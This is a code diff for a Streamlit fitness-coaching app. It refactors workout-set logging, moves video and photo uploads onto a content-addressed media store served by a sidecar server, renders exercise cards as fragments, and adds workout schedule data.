-        updated_df.to_csv(WORKOUT_LOG_CSV, index=False)
-        return True
+def _append_workout_log_csv(rows):
+    """Append rows to workout_log.csv without re-reading it (no-storage fallback)"""
+    write_header = not os.path.exists(WORKOUT_LOG_CSV) or os.path.getsize(WORKOUT_LOG_CSV) == 0
+    with open(WORKOUT_LOG_CSV, 'a', newline='') as f:
+        writer = csv.DictWriter(
+            f, fieldnames=['date', 'exercise_id', 'exercise', 'set', 'reps', 'weight', 'completed']
+        )
+        if write_header:
+            writer.writeheader()
+        writer.writerows(rows)
+        f.flush()
+        os.fsync(f.fileno())
+
+
+def _completed_sets(rows, committed=None):
+    """{set number: completed} over workout log rows, on top of `committed` - the latest row for each set wins"""
+    latest = dict(committed or {})
+    for row in rows:
+        latest[int(row['set'])] = bool(row['completed'])
+    return latest
+
+
+def _workout_log_rows(date_str, exercise_id, exercise_name, sets_data):
+    """Workout log rows for one exercise's sets"""
+    return [{
+        'date': date_str,
+        'exercise_id': exercise_id,
+        'exercise': exercise_name,
+        'set': int(data['set']),
+        'reps': int(data['reps']),
+        'weight': float(data['weight']),
+        'completed': bool(data['completed'])
+    } for data in sets_data]
+
+
+def append_workout_log_rows(rows):
+    """Append rows to the workout log (or the CSV fallback) - no streak or badge side effects"""
+    if STORAGE_AVAILABLE:
+        init_storage()
+        return append_workout_sets(rows)
+    _append_workout_log_csv(rows)
+    return len(rows)
+
+
+def save_workout_sets(date_str, exercise_id, exercise_name, sets_data):
+    """Save all sets of one exercise in a single append - returns number of sets saved.
+
+    Badges are credited with the change in completed sets against what the
+    log already holds for this exercise and date, so re-saving counts nothing twice.
+    """
+    rows = _workout_log_rows(date_str, exercise_id, exercise_name, sets_data)
+    if not rows:
+        return 0
+    try:
+        committed = _completed_sets(get_today_workout_log(date_str, exercise_id).to_dict("records"))
+        saved = append_workout_log_rows(rows)
+        added = sum(_completed_sets(rows, committed).values()) - sum(committed.values())
+        if any(row['completed'] for row in rows):
+            record_activity("default", day_number(date_str))
+        if added:
+            record_badge_activity(
+                record_sets(badge_counters(), day_number(date_str), exercise_name, added), day_number(date_str)
+            )
+        return saved
     except Exception as e:
         st.error(f"Error saving workout log: {str(e)}")
-        return False
+        return 0
+
+
+def save_workout_log(date_str, exercise_id, exercise_name, set_num, reps, weight, completed):
+    """Save a single set to the workout log"""
+    return save_workout_sets(date_str, exercise_id, exercise_name, [{
+        'set': set_num,
+        'reps': reps,
+        'weight': weight,
+        'completed': completed
+    }]) == 1
+
+
+@st.cache_resource(max_entries=1, show_spinner=False)
+def _index_workout_log_csv(mtime):
+    """Group workout_log.csv by (date, exercise_id) - re-parsed only when mtime changes"""
+    df = pd.read_csv(WORKOUT_LOG_CSV)
+    return {key: group for key, group in df.groupby(['date', 'exercise_id'])}
 
 
 def get_today_workout_log(date_str, exercise_id):
     """Get today's workout log for specific exercise"""
     try:
+        if STORAGE_AVAILABLE:
+            init_storage()
+            return get_workout_log(date_str, exercise_id)
         if os.path.exists(WORKOUT_LOG_CSV):
-            df = pd.read_csv(WORKOUT_LOG_CSV)
-            filtered = df[(df['date'] == date_str) & (df['exercise_id'] == exercise_id)]
-            return filtered
+            groups = _index_workout_log_csv(os.path.getmtime(WORKOUT_LOG_CSV))
+            return groups.get((date_str, exercise_id), pd.DataFrame())
     except Exception as e:
         st.error(f"Error reading workout log: {str(e)}")
     return pd.DataFrame()
 
 
-def parse_set_count(sets_string):
-    """Parse set count from string - allow up to 15"""
-    if not sets_string or sets_string.strip() == "—":
-        return 0
+def save_uploaded_video(uploaded_file, ref):
+    """Shared upload pipeline for every video uploader.
+
+    Streams the upload into the content-addressed blob store in fixed-size
+    chunks with the MAX_VIDEO_MB limit enforced while copying, and records
+    `ref` (e.g. "exercise:<slug>") against the blob. Identical re-uploads
+    reuse the existing file. Raises UploadTooLarge (a ValueError) when the
+    file is over the limit. MP4/MOV files are rewritten with the moov atom
+    first so browsers can start playback before the download finishes, and
+    a poster image is generated for click-to-load players.
+    """
+    check_media_quota(uploaded_file)
+    ext = os.path.splitext(uploaded_file.name or "")[1] or ".mp4"
+    postprocess = faststart if ext.lower() in FASTSTART_EXTENSIONS else None
+    stored = store_blob(
+        uploaded_file, ext, MAX_VIDEO_MB * 1024 * 1024, ref=ref, blobs_dir=BLOBS_DIR, postprocess=postprocess
+    )
+    make_poster(stored.path, POSTERS_DIR, BLOBS_DIR)
+    return stored.path
 
-    # Check if it's a number
-    try:
-        num = int(sets_string)
-        return min(num, 15)  # Cap at 15
-    except:
-        pass
 
-    s = sets_string.lower()
-    s = re.sub(r'\d+\s*warm[- ]*up.*?(?:\+|$)', '', s)
-    nums = re.findall(r'\d+', s)
+def save_uploaded_image(uploaded_file, ref):
+    """Store an uploaded photo by content and pre-render its resized variants.
+
+    Returns (path, changed); changed is False when the same image was
+    already the current one for `ref`.
+    """
+    check_media_quota(uploaded_file)
+    previous = blob_for_ref(ref, BLOBS_DIR)
+    ext = os.path.splitext(uploaded_file.name or "")[1].lower() or ".jpg"
+    stored = store_blob(uploaded_file, ext, MAX_IMAGE_MB * 1024 * 1024, ref=ref, blobs_dir=BLOBS_DIR)
+    generate_variants(stored.path, variants_dir=VARIANTS_DIR, blobs_dir=BLOBS_DIR)
+    if previous and previous != stored.path:
+        release_media(previous, ref, BLOBS_DIR)
+    return stored.path, stored.path != previous
+
+
+def save_progress_photo(uploaded_file, day, user_id="default"):
+    """Store a progress photo for one check-in day; thumbnails are encoded in the background"""
+    ref = f"progress:{user_id}:{day}"
+    check_media_quota(uploaded_file)
+    previous = get_daily_log_photo(user_id, day)
+    ext = os.path.splitext(uploaded_file.name or "")[1].lower() or ".jpg"
+    stored = store_blob(uploaded_file, ext, MAX_IMAGE_MB * 1024 * 1024, ref=ref, blobs_dir=BLOBS_DIR)
+    submit_variants(stored.path, variants_dir=VARIANTS_DIR, blobs_dir=BLOBS_DIR)
+    if previous and previous != stored.path:
+        release_media(previous, ref, BLOBS_DIR)
+    return stored.path
+
+
+def coach_photo_path():
+    """Current coach photo - the uploaded blob, else the legacy coach_photo.jpg"""
+    path = blob_for_ref(COACH_PHOTO_REF, BLOBS_DIR)
+    if path and os.path.exists(path):
+        return path
+    return LEGACY_COACH_PHOTO if os.path.exists(LEGACY_COACH_PHOTO) else None
+
+
+def show_image(path, width, caption=None):
+    """Render a local image from a resized variant instead of the full-size original"""
+    try:
+        variant = image_variant(path, best_width(width), VARIANTS_DIR, BLOBS_DIR)
+    except Exception:
+        variant = path
+    st.image(local_media_url(variant) or variant, caption=caption, width=width)
 
-    if not nums:
-        return 1 if "set" in s else 0
 
-    total = sum(int(n) for n in nums)
-    return min(total, 15)  # Cap at 15
+def release_video(path, ref):
+    """Drop a reference to an uploaded video; the file goes when nothing else uses it"""
+    if path and blob_sha(path, BLOBS_DIR):
+        release_media(path, ref, BLOBS_DIR)
 
 
 def save_exercise_video(uploaded_file, key_slug):
     """Save an exercise video with 50MB limit"""
     try:
-        # Check file size
-        file_size = uploaded_file.size / (1024 * 1024)  # Convert to MB
-        if file_size > MAX_VIDEO_MB:
-            st.error(f"Video file is {file_size:.1f} MB, exceeds {MAX_VIDEO_MB} MB limit!")
-            return None
-
-        # Generate filename
-        timestamp = datetime.now().strftime('%Y%m%d_%H%M%S')
-        filename = f"{key_slug}_{timestamp}_{uploaded_file.name}"
-        filepath = os.path.join(EXERCISE_VIDEOS_DIR, filename)
-
-        # Save file
-        with open(filepath, 'wb') as f:
-            f.write(uploaded_file.getbuffer())
+        filepath = save_uploaded_video(uploaded_file, f"exercise:{key_slug}")
+        add_to_video_index(EXERCISE_VIDEOS_DIR, key_slug, filepath)
 
         return filepath
+    except UploadTooLarge as e:
+        st.error(str(e))
+        return None
     except Exception as e:
         st.error(f"Error saving video: {str(e)}")
         return None
@@ -1439,47 +1729,102 @@ def find_exercise_video(key_slug):
     try:
         if not os.path.exists(EXERCISE_VIDEOS_DIR):
             return None
-
-        # Look for files matching the key_slug pattern
-        pattern = f"{key_slug}_*"
-        files = []
-        for f in os.listdir(EXERCISE_VIDEOS_DIR):
-            if f.startswith(f"{key_slug}_"):
-                files.append(os.path.join(EXERCISE_VIDEOS_DIR, f))
-
-        if files:
-            # Return the most recent file
-            return max(files, key=os.path.getmtime)
+        # O(1) lookup in the persistent video index - no directory scan
+        return lookup_video(EXERCISE_VIDEOS_DIR, key_slug)
     except Exception as e:
         st.error(f"Error finding video: {str(e)}")
     return None
 
 
+@st.cache_resource
+def get_media_base_url():
+    """Start the media sidecar once per process; None means embed files through Streamlit"""
+    if not MEDIA_SERVER_AVAILABLE or not MEDIA_BASE_URL or MEDIA_SERVER_PORT <= 0:
+        return None
+    try:
+        start_media_server(MEDIA_SERVER_PORT, MEDIA_SERVER_ADDRESS)
+    except OSError:
+        # Port taken - fine if it is another worker's (or a standalone) media server
+        if not media_server_alive(f"http://127.0.0.1:{MEDIA_SERVER_PORT}"):
+            return None
+    return MEDIA_BASE_URL
+
+
+def local_media_url(path):
+    """Media server URL for a local file, or None when it has to go through Streamlit"""
+    base_url = get_media_base_url()
+    return media_url(path, base_url) if base_url else None
+
+
+def show_local_video(path, key):
+    """Embed a local video by path - never read into session memory.
+
+    Served from the media sidecar by URL when it is running, so seeking and
+    repeat views use HTTP range requests and the browser cache. Otherwise
+    Streamlit keeps one shared copy per file; once the per-process
+    MEDIA_RESIDENT_MB budget is used up, further videos are click-to-load.
+    """
+    url = local_media_url(path)
+    if url:
+        st.video(url)
+        return
+
+    loaded = st.session_state.setdefault("loaded_videos", set())
+    if key in loaded:
+        resident_media.admit(path, force=True)
+        st.video(path)
+    elif resident_media.admit(path):
+        st.video(path)
+    elif st.button("▶️ Load video", key=f"load_video_{key}"):
+        loaded.add(key)
+        resident_media.admit(path, force=True)
+        st.video(path)
+    else:
+        st.caption("Video not preloaded to save server memory.")
+
+
+def show_video_poster(path, key):
+    """Poster image with a play button - the video player is only created on click"""
+    loaded = st.session_state.setdefault("loaded_videos", set())
+    if key in loaded:
+        show_local_video(path, key)
+        return
+
+    slot = st.empty()
+    with slot.container():
+        poster = make_poster(path, POSTERS_DIR, BLOBS_DIR)
+        if poster:
+            st.image(local_media_url(poster) or poster)
+        clicked = st.button("▶️ Play", key=f"play_video_{key}")
+    if clicked:
+        loaded.add(key)
+        with slot.container():
+            show_local_video(path, key)
+
+
 def render_enhanced_exercise_card(exercise, idx, workout_date):
-    """Enhanced exercise card with video and set tracking"""
-    exercise_name = exercise['name']
-    exercise_id = get_exercise_id(exercise_name)
-    sets_info = exercise.get('sets', '—')
-    reps_info = exercise.get('reps', '—')
-    category = exercise.get('category', 'General')
-    exercise_key = f"{exercise_id}_{workout_date}"
+    """Enhanced exercise card with video and set tracking - `exercise` is a compiled catalog record.
 
-    num_sets = parse_set_count(sets_info)
+    Rendered through render_exercise_card_fragment, so its reruns stay inside the card.
+    """
+    exercise_name = exercise.name
+    exercise_id = exercise.id
+    exercise_key = f"{exercise_id}_{workout_date}"
+    num_sets = exercise.num_sets
 
     with st.container():
         st.markdown(f"### {idx}. {exercise_name}")
-        st.markdown(f"**Category:** {category} | **Sets:** {sets_info} | **Reps:** {reps_info}")
+        st.markdown(f"**Category:** {exercise.category} | **Sets:** {exercise.sets} | **Reps:** {exercise.reps}")
 
         # NEW: Exercise alternatives
-        alternatives = EXERCISE_ALTERNATIVES.get(exercise_id, {})
-        if alternatives:
+        if exercise.has_alternatives:
             col1, col2 = st.columns(2)
             with col1:
                 if st.button("🏠 At-home variant", key=f"home_{exercise_key}"):
-                    st.info("At-home alternatives: " + ", ".join(alternatives.get("at_home", ["None available"])))
+                    st.info("At-home alternatives: " + ", ".join(exercise.at_home or ["None available"]))
             with col2:
                 if st.button("🦵 Low-impact alternative", key=f"low_{exercise_key}"):
-                    st.info("Low-impact alternatives: " + ", ".join(alternatives.get("low_impact", ["None available"])))
+                    st.info("Low-impact alternatives: " + ", ".join(exercise.low_impact or ["None available"]))
 
         col1, col2 = st.columns([1, 1])
 
@@ -1488,93 +1833,87 @@ def render_enhanced_exercise_card(exercise, idx, workout_date):
             if num_sets > 0:
                 st.markdown("#### 📝 Track Your Sets")
 
-                workout_sets = st.session_state.get("workout_sets", {})
+                sets_state = workout_set_state(workout_date)
+                current_rows, spills = sets_state.rows(
+                    exercise_id, exercise_name, num_sets, exercise.time_based,
+                    seed=lambda: get_today_workout_log(workout_date, exercise_id).to_dict("records")
+                )
+                spill_workout_sets(spills)
                 sets_data = []
-                # Check if this is a time-based exercise (warm-up with seconds)
-                is_time_based = "second" in reps_info.lower() and category == "Warm-up"
-
-                for set_num in range(1, num_sets + 1):
-                    with st.container():
-                        cols = st.columns([1, 2, 2, 1])
-
-                        with cols[0]:
-                            st.markdown(f"**Set {set_num}**")
-
-                        with cols[1]:
-                            if is_time_based:
-                                # For time-based warm-up exercises, show seconds tracker
-                                time_key = f"{exercise_id}_{workout_date}_set{set_num}_time"
-                                seconds = st.number_input(
-                                    "Seconds",
-                                    min_value=0,
-                                    max_value=120,
-                                    value=workout_sets.get(time_key, 60),
-                                    step=5,
-                                    key=time_key,
-                                    label_visibility="collapsed"
-                                )
-                                st.session_state.workout_sets[time_key] = seconds
-                                reps = seconds  # Store as reps for consistency
-                            else:
-                                # Regular reps tracking for non-warmup exercises
-                                reps_key = f"{exercise_id}_{workout_date}_set{set_num}_reps"
-                                reps = st.number_input(
-                                    "Reps",
-                                    min_value=0,
-                                    max_value=100,
-                                    value=workout_sets.get(reps_key, 10),
-                                    key=reps_key,
-                                    label_visibility="collapsed"
+                # Time-based warm-ups track seconds (flag precomputed in the catalog)
+                is_time_based = exercise.time_based
+
+                # Set edits live in a form: nothing reruns until Save commits the whole exercise
+                with st.form(key=f"sets_{exercise_key}", border=False):
+                    for set_num in range(1, num_sets + 1):
+                        with st.container():
+                            cols = st.columns([1, 2, 2, 1])
+
+                            with cols[0]:
+                                st.markdown(f"**Set {set_num}**")
+
+                            with cols[1]:
+                                if is_time_based:
+                                    # For time-based warm-up exercises, show seconds tracker
+                                    time_key = f"{exercise_id}_{workout_date}_set{set_num}_time"
+                                    seconds = st.number_input(
+                                        "Seconds",
+                                        min_value=0,
+                                        max_value=120,
+                                        value=int(current_rows[set_num - 1]["reps"]),
+                                        step=5,
+                                        key=time_key,
+                                        label_visibility="collapsed"
+                                    )
+                                    reps = seconds  # Store as reps for consistency
+                                else:
+                                    # Regular reps tracking for non-warmup exercises
+                                    reps_key = f"{exercise_id}_{workout_date}_set{set_num}_reps"
+                                    reps = st.number_input(
+                                        "Reps",
+                                        min_value=0,
+                                        max_value=100,
+                                        value=int(current_rows[set_num - 1]["reps"]),
+                                        key=reps_key,
+                                        label_visibility="collapsed"
+                                    )
+
+                            with cols[2]:
+                                if is_time_based:
+                                    # No weight for time-based warm-ups
+                                    st.markdown("*No weight*")
+                                    weight = 0.0
+                                else:
+                                    # Regular weight tracking for non-warmup exercises
+                                    weight_key = f"{exercise_id}_{workout_date}_set{set_num}_weight"
+                                    weight = st.number_input(
+                                        "Weight (lbs)",
+                                        min_value=0.0,
+                                        max_value=500.0,
+                                        value=float(current_rows[set_num - 1]["weight"]),
+                                        step=2.5,
+                                        key=weight_key,
+                                        label_visibility="collapsed"
+                                    )
+
+                            with cols[3]:
+                                completed_key = f"{exercise_id}_{workout_date}_set{set_num}_completed"
+                                completed = st.checkbox(
+                                    "✅",
+                                    key=completed_key,
+                                    value=current_rows[set_num - 1]["completed"]
                                 )
-                                st.session_state.workout_sets[reps_key] = reps
 
-                        with cols[2]:
-                            if is_time_based:
-                                # No weight for time-based warm-ups
-                                st.markdown("*No weight*")
-                                weight = 0.0
-                            else:
-                                # Regular weight tracking for non-warmup exercises
-                                weight_key = f"{exercise_id}_{workout_date}_set{set_num}_weight"
-                                weight = st.number_input(
-                                    "Weight (lbs)",
-                                    min_value=0.0,
-                                    max_value=500.0,
-                                    value=workout_sets.get(weight_key, 0.0),
-                                    step=2.5,
-                                    key=weight_key,
-                                    label_visibility="collapsed"
-                                )
-                                st.session_state.workout_sets[weight_key] = weight
-
-                        with cols[3]:
-                            completed_key = f"{exercise_id}_{workout_date}_set{set_num}_completed"
-                            completed = st.checkbox(
-                                "✅",
-                                key=completed_key,
-                                value=workout_sets.get(completed_key, False)
-                            )
-                            st.session_state.workout_sets[completed_key] = completed
-
-                        sets_data.append({
-                            'set': set_num,
-                            'reps': reps,
-                            'weight': weight,
-                            'completed': completed
-                        })
-                if st.button(f"💾 Save {exercise_name}", key=f"save_{exercise_id}_{workout_date}"):
-                    saved_count = 0
-                    for data in sets_data:
-                        if save_workout_log(
-                                workout_date,
-                                exercise_id,
-                                exercise_name,
-                                data['set'],
-                                data['reps'],
-                                data['weight'],
-                                data['completed']
-                        ):
-                            saved_count += 1
+                            sets_data.append({
+                                'set': set_num,
+                                'reps': reps,
+                                'weight': weight,
+                                'completed': completed
+                            })
+                    submitted = st.form_submit_button(f"💾 Save {exercise_name}")
+                if submitted:
+                    saved_count = save_workout_sets(workout_date, exercise_id, exercise_name, sets_data)
+                    sets_state.update(exercise_id, sets_data, saved=saved_count > 0)
 
                     if saved_count > 0:
                         st.success(f"Saved {saved_count} sets!")
@@ -1597,39 +1936,43 @@ def render_enhanced_exercise_card(exercise, idx, workout_date):
                         st.session_state.completed_exercises = []
                     if key not in st.session_state.completed_exercises:
                         st.session_state.completed_exercises.append(key)
+                        # Logged as one completed set, so ticking it again later is not credited twice
+                        save_workout_sets(workout_date, exercise_id, exercise_name, [{
+                            'set': 1, 'reps': 0, 'weight': 0.0, 'completed': True
+                        }])
 
         # Right column: Video
         with col2:
             st.markdown("#### 🎥 Exercise Demo")
 
+            # General exercise video from videos.json (cached snapshot)
+            videos = load_videos_json()
+            src = videos.get(exercise_id)
+
             # Check for uploaded exercise-specific video first
             existing_video = find_exercise_video(exercise_key)
 
             if existing_video:
                 try:
-                    st.video(existing_video)
+                    show_video_poster(existing_video, f"uploaded_{exercise_key}")
                     if st.button(f"Delete video", key=f"delete_video_{exercise_key}"):
                         try:
-                            os.remove(existing_video)
+                            release_media(existing_video, f"exercise:{exercise_key}", BLOBS_DIR)
+                            remove_from_video_index(EXERCISE_VIDEOS_DIR, existing_video)
                             st.success("Video deleted!")
-                            st.rerun()
+                            st.rerun(scope="fragment")
                         except Exception as e:
                             st.error(f"Error deleting video: {str(e)}")
                 except Exception as e:
                     st.error(f"Error loading video: {str(e)}")
             else:
                 # Check for general exercise videos from videos.json
-                videos = load_videos_json()
-                src = videos.get(exercise_id)
-
                 if src:
                     try:
                         if src.startswith(("http://", "https://")):
                             st.video(src)
                         elif os.path.exists(src):
-                            with open(src, 'rb') as video_file:
-                                video_bytes = video_file.read()
-                                st.video(video_bytes)
+                            show_video_poster(src, f"general_{exercise_key}")
                         else:
                             st.info("Video file not found. Contact admin to update.")
                     except Exception as e:
@@ -1649,7 +1992,7 @@ def render_enhanced_exercise_card(exercise, idx, workout_date):
                     saved_path = save_exercise_video(uploaded_file, exercise_key)
                     if saved_path:
                         st.success("Video saved!")
-                        st.rerun()
+                        st.rerun(scope="fragment")
 
             # NEW: Video library
             render_video_library(exercise_name, exercise_key)
@@ -1674,30 +2017,60 @@ def render_enhanced_exercise_card(exercise, idx, workout_date):
                             source_to_save = None
                             if uploaded_file:
                                 try:
-                                    video_path = os.path.join(VIDEOS_DIR,
-                                                              f"{exercise_id}_{datetime.now().strftime('%Y%m%d_%H%M%S')}.mp4")
-                                    with open(video_path, 'wb') as f:
-                                        f.write(uploaded_file.getbuffer())
-                                    source_to_save = video_path
+                                    source_to_save = save_uploaded_video(uploaded_file, f"videos_json:{exercise_id}")
                                 except Exception as e:
                                     st.error(f"Upload failed: {str(e)}")
                             elif video_url:
                                 source_to_save = video_url
 
                             if source_to_save:
-                                videos[exercise_id] = source_to_save
-                                if save_videos_json(videos):
+                                if set_video_source(exercise_id, source_to_save):
                                     st.success(f"Video saved for {exercise_name}!")
-                                    st.rerun()
+                                    st.rerun(scope="fragment")
                             else:
                                 st.warning("Please upload a file or provide a URL.")
                     with b2:
                         if src and st.button("Delete Video", key=f"admin_delete_{exercise_id}"):
                             if exercise_id in videos:
-                                del videos[exercise_id]
-                                if save_videos_json(videos):
+                                if remove_video_source(exercise_id):
                                     st.success(f"Video removed for {exercise_name}.")
-                                    st.rerun()
+                                    st.rerun(scope="fragment")
+
+
+def workout_set_state(workout_date):
+    """This session's set tracker state - only the active workout date stays resident"""
+    state = st.session_state.get("workout_sets")
+    if not isinstance(state, WorkoutSets):
+        # Also replaces the old flat {widget key: value} dict
+        state = st.session_state["workout_sets"] = WorkoutSets(workout_date, WORKOUT_SETS_MAX_EXERCISES)
+    spill_workout_sets(state.activate(workout_date))
+    return state
+
+
+def spill_workout_sets(spills):
+    """Write rows that are about to leave session memory without having been saved.
+
+    Straight to the log: these sets were already shown as unsaved when their
+    Save failed, so this is a last attempt, not a new save for streaks or badges.
+    """
+    for exercise_id, exercise_name, date_str, rows in spills:
+        if not any(row['completed'] for row in rows):
+            continue
+        try:
+            append_workout_log_rows(_workout_log_rows(date_str, exercise_id, exercise_name, rows))
+            st.toast(f"Saved earlier unsaved sets for {exercise_name} ({date_str})")
+        except Exception as e:
+            st.error(f"Unsaved sets for {exercise_name} ({date_str}) were lost: {str(e)}")
+
+
+@st.fragment
+def render_exercise_card_fragment(exercise, idx, workout_date):
+    """One exercise card as a fragment - its widgets rerun this card only, not the whole workout"""
+    try:
+        render_enhanced_exercise_card(exercise, idx, workout_date)
+    finally:
+        # Fragment reruns skip main(), so progress saved by this card is flushed here
+        flush_user_progress()
 
 
 def render_homepage_intro_video():
@@ -1716,7 +2089,7 @@ def render_homepage_intro_video():
                 if src.startswith(("http://", "https://")):
                     st.video(src)
                 elif os.path.exists(src):
-                    st.video(src)
+                    show_local_video(src, "intro")
                 else:
                     st.info("Welcome video file not found.")
             except Exception as e:
@@ -1736,19 +2109,14 @@ def render_homepage_intro_video():
                     source_to_save = None
                     if up:
                         try:
-                            video_path = os.path.join(VIDEOS_DIR,
-                                                      f"intro_{datetime.now().strftime('%Y%m%d_%H%M%S')}.mp4")
-                            with open(video_path, 'wb') as f:
-                                f.write(up.getbuffer())
-                            source_to_save = video_path
+                            source_to_save = save_uploaded_video(up, "videos_json:__intro__")
                         except Exception as e:
                             st.error(f"Upload failed: {str(e)}")
                     elif url:
                         source_to_save = url
 
                     if source_to_save:
-                        videos["__intro__"] = source_to_save
-                        if save_videos_json(videos):
+                        if set_video_source("__intro__", source_to_save):
                             st.success("Saved welcome video.")
                             st.rerun()
                     else:
@@ -1756,8 +2124,7 @@ def render_homepage_intro_video():
             with col2:
                 if src and st.button("Delete Video", key="admin_intro_delete"):
                     if "__intro__" in videos:
-                        del videos["__intro__"]
-                        if save_videos_json(videos):
+                        if remove_video_source("__intro__"):
                             st.success("Deleted welcome video.")
                             st.rerun()
 
@@ -2139,6 +2506,56 @@ LEGS_BOOTY_L2_SATURDAY = [
     {"name": "Cable Kickbacks", "sets": "3 each leg", "reps": "12-15", "category": "Booty"},
     {"name": "Walking Lunges", "sets": "3", "reps": "20 total", "category": "Legs"}
 ]
+
+REST_DAY = [{"name": "Rest Day", "sets": "—", "reps": "Recovery", "category": "Rest"}]
+PLACEHOLDER_WORKOUT = [
+    {"name": "Exercise 1", "sets": "3", "reps": "10-12", "category": "Main"},
+    {"name": "Exercise 2", "sets": "3", "reps": "10-12", "category": "Main"},
+    {"name": "Exercise 3", "sets": "3", "reps": "10-12", "category": "Accessory"},
+]
+
+# Every workout list by name - compiled once into the exercise catalog (see get_catalog)
+WORKOUTS = {
+    "BOOTY_L1": BOOTY_L1,
+    "ABS_CORE_ONLY": ABS_CORE_ONLY,
+    "BOOTY_L1_MONDAY": BOOTY_L1_MONDAY,
+    "BOOTY_L2_MONDAY": BOOTY_L2_MONDAY,
+    "SHOULDERS_BACK_LIGHT": SHOULDERS_BACK_LIGHT,
+    "CARDIO_WEDNESDAY": CARDIO_WEDNESDAY,
+    "LEGS_BOOTY_L1_THURSDAY": LEGS_BOOTY_L1_THURSDAY,
+    "BOOTY_L2_THURSDAY": BOOTY_L2_THURSDAY,
+    "SHOULDERS_ABS_FRIDAY": SHOULDERS_ABS_FRIDAY,
+    "LEGS_BOOTY_L2_SATURDAY": LEGS_BOOTY_L2_SATURDAY,
+    "REST_DAY": REST_DAY,
+    "PLACEHOLDER_WORKOUT": PLACEHOLDER_WORKOUT,
+}
+# Offered in the admin video manager even when no workout lists them yet
+ADMIN_EXTRA_EXERCISES = (
+    "Hip Thrust", "RDLs (Romanian Deadlifts)", "Kickbacks", "Hyperextensions",
+    "Bulgarian Split Squats", "Leg Press", "Leg Curl", "Lat Pulldown Wide Grip"
+)
+NON_EXERCISES = ("Repeat 2x total", "Rest Day", "Exercise 1", "Exercise 2", "Exercise 3")
+
+# PROGRAM_SPLIT label -> workout, per level. Every non-REST label in the split must be listed here;
+# get_schedule() checks this once at startup.
+WORKOUT_FOR_LABEL = {
+    1: {
+        "BOOTY": "BOOTY_L1_MONDAY",
+        "LIGHT SHOULDERS & BACK": "SHOULDERS_BACK_LIGHT",  # Tuesday, repeated on Saturday
+        "CARDIO": "CARDIO_WEDNESDAY",
+        "LEGS & BOOTY": "LEGS_BOOTY_L1_THURSDAY",
+        "SHOULDERS & ABS/CORE": "SHOULDERS_ABS_FRIDAY",
+    },
+    2: {
+        "BOOTY A": "BOOTY_L2_MONDAY",
+        "LIGHT SHOULDERS & BACK": "SHOULDERS_BACK_LIGHT",
+        "CARDIO": "CARDIO_WEDNESDAY",
+        "BOOTY B": "BOOTY_L2_THURSDAY",
+        "SHOULDERS & ABS/CORE": "SHOULDERS_ABS_FRIDAY",
+        "LEGS & BOOTY": "LEGS_BOOTY_L2_SATURDAY",
+    },
+}
+
 # ============================================================================
 # MEAL PLAN DATA
 # ============================================================================
@@ -2206,20 +2623,21 @@ def render_homepage():
                 key="homepage_coach_photo"
             )
             if uploaded_photo is not None:
-                # Save the uploaded photo
+                # Save the uploaded photo (the uploader keeps its file across reruns)
                 try:
-                    with open("coach_photo.jpg", "wb") as f:
-                        f.write(uploaded_photo.getbuffer())
-                    st.success("Photo saved! It will appear below.")
-                    st.rerun()
+                    _, changed = save_uploaded_image(uploaded_photo, COACH_PHOTO_REF)
+                    if changed:
+                        st.success("Photo saved! It will appear below.")
+                        st.rerun()
                 except Exception as e:
                     st.error(f"Error saving photo: {str(e)}")
 
     # Display coach photo - smaller and better positioned
     col1, col2, col3 = st.columns([2, 1, 2])
     with col2:
-        if os.path.exists("coach_photo.jpg"):
-            st.image("coach_photo.jpg", caption="Hourglass Fitness", width=450)
+        photo = coach_photo_path()
+        if photo:
+            show_image(photo, 450, caption="Hourglass Fitness")
         elif ADMIN_UI:
             st.info("👆 Use the admin panel above to upload your photo")
 
@@ -2302,7 +2720,7 @@ def render_homepage():
                     if src.startswith(("http", "https")):
                         st.video(src)
                     elif os.path.exists(src):
-                        st.video(src)
+                        show_local_video(src, "getting_started")
                     else:
                         st.warning("Saved video file not found. It may have been moved or deleted.")
             except Exception as e:
@@ -2330,14 +2748,7 @@ def render_homepage():
                         source_to_save = None
                         if uploaded_file is not None:
                             try:
-                                timestamp = datetime.now().strftime("%Y%m%d_%H%M%S")
-                                safe_filename = re.sub(r'[^a-zA-Z0-9._-]', '', uploaded_file.name)
-                                filename = f"getting_started_{timestamp}_{safe_filename}"
-                                video_path = os.path.join(VIDEOS_DIR, filename)
-
-                                with open(video_path, "wb") as f:
-                                    f.write(uploaded_file.getbuffer())
-                                source_to_save = video_path
+                                source_to_save = save_uploaded_video(uploaded_file, "videos_json:__getting_started__")
                                 st.success(f"File '{uploaded_file.name}' uploaded successfully!")
                             except Exception as e:
                                 st.error(f"Failed to save uploaded file: {e}")
@@ -2348,14 +2759,12 @@ def render_homepage():
                             st.warning("Please upload a file or provide a URL to save.")
 
                         if source_to_save:
-                            videos["__getting_started__"] = source_to_save
-                            if save_videos_json(videos):
+                            if set_video_source("__getting_started__", source_to_save):
                                 st.rerun()
                 with c2:
                     if src and st.button("Delete Video", key="delete_getting_started"):
                         if "__getting_started__" in videos:
-                            del videos["__getting_started__"]
-                            if save_videos_json(videos):
+                            if remove_video_source("__getting_started__"):
                                 st.success("Deleted 'Getting Started' video.")
                                 st.rerun()
 
@@ -2422,12 +2831,12 @@ def render_workout_overview():
 
         with col1:
             st.markdown("#### Level 1")
-            schedule_df = pd.DataFrame(list(PROGRAM_SPLIT["Level 1"].items()), columns=["Day", "Workout"])
+            schedule_df = pd.DataFrame([(p.day, p.label) for p in get_schedule().week(1)], columns=["Day", "Workout"])
             st.table(schedule_df)
 
         with col2:
             st.markdown("#### Level 2")
-            schedule_df = pd.DataFrame(list(PROGRAM_SPLIT["Level 2"].items()), columns=["Day", "Workout"])
+            schedule_df = pd.DataFrame([(p.day, p.label) for p in get_schedule().week(2)], columns=["Day", "Workout"])
             st.table(schedule_df)
 
     with tab2:
@@ -2521,19 +2930,22 @@ def render_workout_overview():
 
         with col1:
             # Check for coach photo
-            coach_photo_path = "coach_photo.jpg"
-            if os.path.exists(coach_photo_path):
-                st.image(coach_photo_path, caption="Joane Aristilde", width=250)
+            photo = coach_photo_path()
+            if photo:
+                show_image(photo, 250, caption="Joane Aristilde")
             elif ADMIN_UI:
-                st.info("Upload coach_photo.jpg to display photo")
+                st.info("Upload a coach photo to display it here")
                 with st.expander("🔧 Admin: Upload Coach Photo"):
                     uploaded_photo = st.file_uploader("Upload Coach Photo", type=['jpg', 'jpeg', 'png'],
                                                       key="coach_photo_upload_overview")
                     if uploaded_photo:
-                        with open("coach_photo.jpg", "wb") as f:
-                            f.write(uploaded_photo.getbuffer())
